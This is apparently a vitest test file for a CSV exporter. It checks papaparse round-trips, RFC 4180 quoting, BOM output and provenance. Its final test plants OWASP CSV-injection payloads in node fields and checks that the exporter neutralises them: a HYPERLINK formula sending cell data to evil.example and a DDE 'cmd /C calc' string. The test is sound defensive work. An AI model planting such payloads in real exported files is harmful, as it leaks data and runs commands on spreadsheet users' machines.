/**
 * CSV round trip with papaparse over the adversarial fixture (test/fixtures/exporters/special-graph.ts): RFC 4180
 * quoting of quotes, commas and line breaks, " | " lists, UTF-8 with BOM, provenance in export-info.txt.
 */
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { ARABIC_AUTHOR, buildSpecialGraph, CJK_AUTHOR, NASTY_AUTHOR, NASTY_TITLE } from "../fixtures/exporters/special-graph";
import { EXPORTED_AT, run, xmlSafe } from "./helpers";

const files = run("csv").files;
const byName = (n: string) => {
  const f = files.find((x) => x.name === n);
  if (!f || typeof f.content !== "string") throw new Error(`no ${n}`);
  return f.content;
};
const parse = (s: string) => Papa.parse<Record<string, string>>(s, { header: true, skipEmptyLines: true });

describe("CSV export", () => {
  const data = buildSpecialGraph();

  it("writes nodes.csv, edges.csv and export-info.txt", () => {
    expect(files.map((f) => f.name)).toEqual(["nodes.csv", "edges.csv", "export-info.txt"]);
    expect(byName("nodes.csv").startsWith("\uFEFFkey,kind,label,x,y,size,color,")).toBe(true);
    expect(byName("nodes.csv").split("\r\n").length).toBeGreaterThan(data.order);
  });

  it("round-trips every node and attribute through papaparse", () => {
    const r = parse(byName("nodes.csv"));
    expect(r.errors).toEqual([]);
    expect(r.data.length).toBe(data.order);
    const row = (k: string) => r.data.find((d) => d.key === k)!;
    expect(row("p:future-ai").title).toBe(xmlSafe(NASTY_TITLE));
    expect(row("p:future-ai").abstract).toBe(data.getNodeAttribute("p:future-ai", "abstract"));
    expect(row("p:future-ai").authors).toBe("a:karim-lekadir | a:aasa-feragen | a:zoe-obrien");
    expect(row("p:future-ai").sources).toBe("seeds/000_0cb82e000d5bd246.txt:14 | seeds/001_bb13e165dd174990.txt:120");
    expect(row("p:future-ai").year).toBe("2023");
    expect(row("p:future-ai").hasCode).toBe("true");
    expect(row("p:arxiv-2101").title).toBe("");
    expect(row("p:arxiv-2101").year).toBe("");
    expect(row("a:zoe-obrien").label).toBe(NASTY_AUTHOR);
    expect(row("a:王小明").name).toBe(CJK_AUTHOR);
    expect(row("a:mohammed-ali").name).toBe(ARABIC_AUTHOR);
    expect(row("a:karim-lekadir")["profile.hIndex"]).toBe("72");
    expect(row("a:karim-lekadir")["profile.source"]).toBe("seeds/000_0cb82e000d5bd246.txt:1");
    expect(row("t:naive-bayes").term).toBe("naïve Bayes | Bayes");
    expect(Object.keys(r.data[0]!)).toContain("pagerank");
  });

  it("round-trips every edge with direction and endpoint labels", () => {
    const r = parse(byName("edges.csv"));
    expect(r.errors).toEqual([]);
    expect(r.data.length).toBe(data.size);
    const e = r.data.find((d) => d.key === "authored:a:zoe-obrien->p:future-ai")!;
    expect(e.directed).toBe("true");
    expect(e.sourceLabel).toBe(NASTY_AUTHOR);
    expect(e.targetLabel).toBe(xmlSafe(NASTY_TITLE));
    const c = r.data.find((d) => d.key === "coauthor:a:andrew-p-king--a:mohammed-ali")!;
    expect([c.directed, c.kind, c.weight, c.color]).toEqual(["false", "coauthor", "2", "rgba(120,120,120,0.5)"]);
  });

  it("quotes per RFC 4180 (doubled quotes, embedded CRLF kept inside one field)", () => {
    const nodes = byName("nodes.csv");
    expect(nodes).toContain(`"Zoë ""Q"" O'Brien & <Co>"`);
    expect(nodes).toContain(`"Despite major advances in AI,\r\nthe deployment remains limited.\n\tIndented ""quoted"" line, with comma."`);
  });

  it("puts the provenance in export-info.txt", () => {
    const info = byName("export-info.txt");
    expect(info).toContain(EXPORTED_AT);
    expect(info).toContain("Scope: whole graph (13 nodes, 21 edges)");
    expect(info).toContain("seeds/003_b7b40e951325af8c.txt");
    expect(info).toContain('" | "');
  });

  it("neutralises cells a spreadsheet would run as a formula (OWASP), and leaves plain numbers numeric", () => {
    // constructed: the payloads of OWASP's "CSV Injection" page in the fields a listing controls (title, names, terms).
    const g = buildSpecialGraph();
    g.setNodeAttribute("p:future-ai", "title", '=HYPERLINK("http://evil.example/?"&A1,"Click")');
    g.setNodeAttribute("a:zoe-obrien", "label", "@SUM(1+1)*cmd|' /C calc'!A0");
    g.setNodeAttribute("a:zoe-obrien", "aliases", ["+1+1", "-2+3", "\t=1+1", "\r=1+1", "plain"]);
    g.setNodeAttribute("t:naive-bayes", "term", "-");
    const nodesCsv = run("csv", null, g).files.find((f) => f.name === "nodes.csv")!.content as string;
    const r = parse(nodesCsv);
    expect(r.errors).toEqual([]);
    const row = (k: string) => r.data.find((d) => d.key === k)!;
    expect(row("p:future-ai").title).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(row("a:zoe-obrien").label).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    // A list cell is one cell: only its start matters.
    expect(row("a:zoe-obrien").aliases).toBe("'+1+1 | -2+3 | \t=1+1 | \r=1+1 | plain");
    expect(row("t:naive-bayes").term).toBe("'-");
    // Negative coordinates stay numbers.
    const xs = r.data.map((d) => d.x!).filter((x) => x.startsWith("-"));
    expect(xs.length).toBeGreaterThan(0);
    for (const x of xs) expect(Number.isFinite(Number(x))).toBe(true);
    const edgesCsv = run("csv", null, g).files.find((f) => f.name === "edges.csv")!.content as string;
    expect(edgesCsv).toContain(",'@SUM(1+1)*cmd|' /C calc'!A0");
    for (const cell of parse(edgesCsv).data.flatMap((d) => Object.values(d))) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });
});

